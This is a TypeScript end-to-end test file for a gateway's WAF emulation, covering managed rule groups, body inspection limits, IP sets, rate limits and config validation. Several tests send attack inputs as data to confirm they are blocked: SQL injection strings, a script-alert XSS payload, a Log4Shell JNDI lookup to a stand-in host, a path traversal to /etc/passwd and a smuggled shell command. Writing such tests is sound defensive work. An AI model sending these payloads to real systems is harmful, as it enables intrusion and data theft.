import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { request } from 'node:http';
import { after, before, describe, test } from 'node:test';
import { ManualClock } from '../../src/clock.js';
import { startTestGateway, startUpstream, type TestGateway, type TestUpstream } from '../helpers/gateway.js';
import { call } from '../helpers/http-call.js';

/** An upstream that answers with the sha256 and length of the body it received. */
function bodyEcho(): Promise<TestUpstream> {
  return startUpstream((req, res) => {
    const h = createHash('sha256');
    let n = 0;
    req.on('data', (c: Buffer) => {
      h.update(c);
      n += c.length;
    });
    req.on('end', () => {
      const body = JSON.stringify({ sha: h.digest('hex'), length: n, url: req.url });
      res.writeHead(200, { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) });
      res.end(body);
    });
  });
}

/** POST with a chunked body (no Content-Length), written in pieces. */
function postChunked(
  port: number,
  path: string,
  pieces: Buffer[],
  headers: Record<string, string> = {},
): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = request({ host: '127.0.0.1', port, method: 'POST', path, headers, agent: false }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8') }));
    });
    req.on('error', reject);
    for (const p of pieces) req.write(p);
    req.end();
  });
}

const sha = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');

describe('WAF end to end', () => {
  let up: TestUpstream;
  let gw: TestGateway;
  const clock = new ManualClock(Date.UTC(2026, 0, 1));
  before(async () => {
    up = await bodyEcho();
    gw = await startTestGateway(
      `
version: 1
wafIpSets:
  banned: { addresses: [203.0.113.0/24, "2001:db8::/32"] }
wafAcls:
  main:
    defaultAction: { allow: {} }
    bodyInspectionLimitKb: 8
    customResponseBodies:
      teapot: { contentType: APPLICATION_JSON, content: '{"blocked":true}' }
    rules:
      - name: managed-sqli
        priority: 10
        overrideAction: { none: {} }
        statement: { managedRuleGroupStatement: { vendorName: Portico, name: PorticoSQLiRuleSet } }
      - name: managed-xss
        priority: 11
        overrideAction: { none: {} }
        statement:
          managedRuleGroupStatement:
            name: PorticoXSSRuleSet
            ruleActionOverrides: [{ name: CrossSiteScripting_COOKIE, actionToUse: { count: {} } }]
      - name: bad-inputs
        priority: 12
        overrideAction: { none: {} }
        statement: { managedRuleGroupStatement: { name: PorticoKnownBadInputsRuleSet } }
      - name: teapot
        priority: 20
        action:
          block:
            customResponse:
              responseCode: 418
              customResponseBodyKey: teapot
              responseHeaders: [{ name: x-waf, value: teapot }]
        statement:
          byteMatchStatement:
            searchString: /teapot
            fieldToMatch: { uriPath: {} }
            positionalConstraint: STARTS_WITH
            textTransformations: [{ priority: 0, type: LOWERCASE }]
      - name: big-body
        priority: 30
        action: { block: {} }
        statement:
          sizeConstraintStatement:
            fieldToMatch: { body: { oversizeHandling: CONTINUE } }
            comparisonOperator: GT
            size: 65536
      - name: oversize-json
        priority: 31
        action: { block: {} }
        statement:
          andStatement:
            statements:
              - byteMatchStatement: { searchString: /strict, fieldToMatch: { uriPath: {} }, positionalConstraint: CONTAINS }
              - byteMatchStatement:
                  searchString: x
                  fieldToMatch: { body: { oversizeHandling: MATCH } }
                  positionalConstraint: CONTAINS
      - name: banned-forwarded
        priority: 40
        action: { block: {} }
        statement:
          ipSetReferenceStatement:
            name: banned
            ipSetForwardedIPConfig: { headerName: X-Client-IP, fallbackBehavior: NO_MATCH, position: FIRST }
      - name: flood
        priority: 50
        action: { block: {} }
        statement:
          rateBasedStatement:
            limit: 10
            evaluationWindowSec: 60
            aggregateKeyType: CUSTOM_KEYS
            customKeys: [{ header: { name: x-tenant, textTransformations: [{ priority: 0, type: NONE }] } }]
apis:
  - name: shop
    type: http
    stages: { $default: {} }
    waf: main
    gatewayResponses:
      WAF_FILTERED: { headers: { x-reason: waf } }
    routes:
      - { route: "ANY /items/{proxy+}", integration: { type: http_proxy, uri: "${up.url}/items/{proxy}" } }
      - { route: GET /ping, integration: { type: mock, body: pong } }
  - name: legacy
    type: rest
    basePath: /legacy
    stages:
      prod: {}
      open: { waf: false }
    waf:
      defaultAction: { block: {} }
      rules:
        - name: allow-get
          priority: 0
          action: { allow: {} }
          statement: { byteMatchStatement: { searchString: GET, fieldToMatch: { method: {} }, positionalConstraint: EXACTLY } }
    routes:
      - { route: ANY /x, integration: { type: mock, body: x } }
`,
      { clock },
    );
  });
  after(async () => {
    await gw.close();
    await up.close();
  });

  test('a clean request passes, a SQL injection in a query argument is blocked with WAF_FILTERED', async () => {
    const ok = await call(gw.port, 'GET', '/items/1?q=hello%20world');
    assert.equal(ok.status, 200);
    const before = up.requests.length;
    const r = await call(gw.port, 'GET', `/items/1?q=${encodeURIComponent("1' OR '1'='1")}`);
    assert.equal(r.status, 403);
    assert.deepEqual(JSON.parse(r.body), { message: 'Forbidden' });
    assert.equal(r.headers['x-reason'], 'waf');
    assert.equal(up.requests.length, before, 'the upstream never saw the blocked request');
  });

  test('the WAF runs before routing: an attack on an unknown path is WAF_FILTERED, not 404', async () => {
    const miss = await call(gw.port, 'GET', '/nowhere');
    assert.equal(miss.status, 404);
    const r = await call(gw.port, 'GET', `/nowhere?x=${encodeURIComponent('<script>alert(1)</script>')}`);
    assert.equal(r.status, 403);
    assert.equal(r.headers['x-reason'], 'waf');
  });

  test('known bad inputs: Log4Shell in a header, path traversal, shell metacharacters', async () => {
    assert.equal((await call(gw.port, 'GET', '/ping', { 'user-agent': '${jndi:ldap://evil/a}' })).status, 403);
    assert.equal((await call(gw.port, 'GET', '/items/a?file=..%2F..%2Fetc%2Fpasswd')).status, 403);
    assert.equal((await call(gw.port, 'GET', '/items/a?host=example.com%3Bcat%20%2Fetc%2Fhosts')).status, 403);
    assert.equal((await call(gw.port, 'GET', '/ping', { 'user-agent': 'curl/8.4.0' })).status, 200);
  });

  test('a rule overridden to count does not block (XSS in a cookie)', async () => {
    const r = await call(gw.port, 'GET', '/ping', { cookie: 'c=<script>alert(1)</script>' });
    assert.equal(r.status, 200);
  });

  test('custom response from a block rule: status, headers and body', async () => {
    const r = await call(gw.port, 'GET', '/TeaPot/x');
    assert.equal(r.status, 418);
    assert.equal(r.headers['x-waf'], 'teapot');
    assert.equal(r.headers['content-type'], 'application/json');
    assert.deepEqual(JSON.parse(r.body), { blocked: true });
  });

  test('body inspection: an attack in a JSON body is blocked; a clean body reaches the upstream byte for byte', async () => {
    const attack = JSON.stringify({ name: "x' UNION SELECT password FROM users--" });
    const r = await call(gw.port, 'POST', '/items/new', { 'content-type': 'application/json' }, attack);
    assert.equal(r.status, 403);
    const clean = JSON.stringify({
      items: Array.from({ length: 400 }, (_, i) => ({ id: i, name: `item ${i}`, note: "it's fine" })),
    });
    assert.ok(clean.length > 16 * 1024, 'larger than the 8 KB inspection limit');
    const ok = await call(gw.port, 'POST', '/items/new', { 'content-type': 'application/json' }, clean);
    assert.equal(ok.status, 200, ok.body);
    const got = JSON.parse(ok.body) as { sha: string; length: number };
    assert.equal(got.length, Buffer.byteLength(clean));
    assert.equal(got.sha, sha(clean));
  });

  test('body inspection limit: an attack after the first 8 KB is not seen (CONTINUE); a small body is replayed whole', async () => {
    const pad = 'a'.repeat(9 * 1024);
    const late = `q=${pad}&x=${encodeURIComponent("' or 1=1--")}`;
    const r = await call(gw.port, 'POST', '/items/form', { 'content-type': 'application/x-www-form-urlencoded' }, late);
    assert.equal(r.status, 200, 'past the limit, as AWS');
    assert.equal((JSON.parse(r.body) as { sha: string }).sha, sha(late));
    const early = `x=${encodeURIComponent("' or 1=1--")}&q=${pad}`;
    assert.equal(
      (await call(gw.port, 'POST', '/items/form', { 'content-type': 'application/x-www-form-urlencoded' }, early))
        .status,
      403,
    );
    const small = 'hello=world';
    const s = await call(
      gw.port,
      'POST',
      '/items/small',
      { 'content-type': 'application/x-www-form-urlencoded' },
      small,
    );
    assert.equal(s.status, 200);
    assert.equal((JSON.parse(s.body) as { sha: string }).sha, sha(small));
  });

  test('chunked bodies: replayed intact past the limit; size constraint sees the whole size', async () => {
    const pieces = Array.from({ length: 12 }, (_, i) => Buffer.alloc(1024, 97 + i));
    const r = await postChunked(gw.port, '/items/chunked', pieces, { 'content-type': 'text/plain' });
    assert.equal(r.status, 200, r.body);
    assert.equal((JSON.parse(r.body) as { sha: string }).sha, sha(Buffer.concat(pieces)));
    const big = await call(gw.port, 'POST', '/items/big', { 'content-type': 'text/plain' }, 'b'.repeat(70 * 1024));
    assert.equal(big.status, 403, 'size > 64 KB');
  });

  test('oversizeHandling MATCH: a body over the limit matches', async () => {
    assert.equal(
      (await call(gw.port, 'POST', '/items/strict', { 'content-type': 'text/plain' }, 'y'.repeat(100))).status,
      200,
    );
    assert.equal(
      (await call(gw.port, 'POST', '/items/strict', { 'content-type': 'text/plain' }, 'y'.repeat(9 * 1024))).status,
      403,
    );
  });

  test('IP set on a forwarded header (v4 and v6), and the fallback when the header is missing', async () => {
    assert.equal((await call(gw.port, 'GET', '/ping', { 'x-client-ip': '203.0.113.9' })).status, 403);
    assert.equal((await call(gw.port, 'GET', '/ping', { 'x-client-ip': '2001:db8::1, 10.0.0.1' })).status, 403);
    assert.equal((await call(gw.port, 'GET', '/ping', { 'x-client-ip': '198.51.100.1' })).status, 200);
    assert.equal((await call(gw.port, 'GET', '/ping')).status, 200);
  });

  test('rate-based rule on a custom key, with the injected clock', async () => {
    for (let i = 0; i < 10; i++)
      assert.equal((await call(gw.port, 'GET', '/ping', { 'x-tenant': 'acme' })).status, 200, `request ${i + 1}`);
    assert.equal((await call(gw.port, 'GET', '/ping', { 'x-tenant': 'acme' })).status, 403, '11th in the window');
    assert.equal(
      (await call(gw.port, 'GET', '/ping', { 'x-tenant': 'other' })).status,
      200,
      'another key has its own count',
    );
    assert.equal((await call(gw.port, 'GET', '/ping')).status, 200, 'no key: not counted');
    clock.advance(120_000);
    assert.equal((await call(gw.port, 'GET', '/ping', { 'x-tenant': 'acme' })).status, 200, 'two windows later');
  });

  test('inline API ACL with defaultAction block; a stage turns it off with waf: false (REST: x-amzn-errortype)', async () => {
    assert.equal((await call(gw.port, 'GET', '/legacy/prod/x')).status, 200);
    const r = await call(gw.port, 'POST', '/legacy/prod/x', {}, '');
    assert.equal(r.status, 403);
    assert.equal(r.headers['x-amzn-errortype'], 'ForbiddenException');
    assert.equal((await call(gw.port, 'POST', '/legacy/open/x', {}, '')).status, 200);
  });
});

describe('WAF config errors', () => {
  test('unknown ACL, IP set, bad regex and duplicate priority are reported with their paths', async () => {
    await assert.rejects(
      startTestGateway(`
version: 1
wafAcls:
  a:
    rules:
      - { name: r1, priority: 1, action: { block: {} }, statement: { regexMatchStatement: { regexString: "(a)\\\\1", fieldToMatch: { uriPath: {} } } } }
      - { name: r2, priority: 1, action: { block: {} }, statement: { ipSetReferenceStatement: { name: nope } } }
apis:
  - name: x
    type: http
    stages: { $default: {}, s2: { waf: b } }
    waf: a
    routes: [{ route: GET /, integration: { type: mock } }]
`),
      (err: Error) => {
        assert.match(
          err.message,
          /wafAcls\.a\.rules\[0\]\.statement\.regexMatchStatement\.regexString.*invalid regular expression/s,
        );
        assert.match(err.message, /wafAcls\.a\.rules\[1\]\.priority.*duplicate priority 1/s);
        assert.match(err.message, /unknown IP set "nope"/);
        assert.match(err.message, /stages\.s2\.waf.*unknown web ACL "b"/s);
        return true;
      },
    );
  });
});

describe('WAF IP sets share the config CIDR parser (config/cidr.ts)', () => {
  test('an out-of-range prefix and a non-address are located, with the same words as trustedProxies', async () => {
    await assert.rejects(
      startTestGateway(`
version: 1
wafIpSets:
  office: { addresses: ["10.0.0.0/8", "10.0.0.0/33", "10.1"] }
apis:
  - name: x
    type: http
    stages: { $default: {} }
    routes: [{ route: GET /, integration: { type: mock } }]
`),
      (err: Error) => {
        assert.match(err.message, /wafIpSets\.office\.addresses\[1\].*prefix out of range \(0-32 for IPv4\)/s);
        assert.match(err.message, /wafIpSets\.office\.addresses\[2\].*not an IPv4 or IPv6 address/s);
        return true;
      },
    );
  });
});
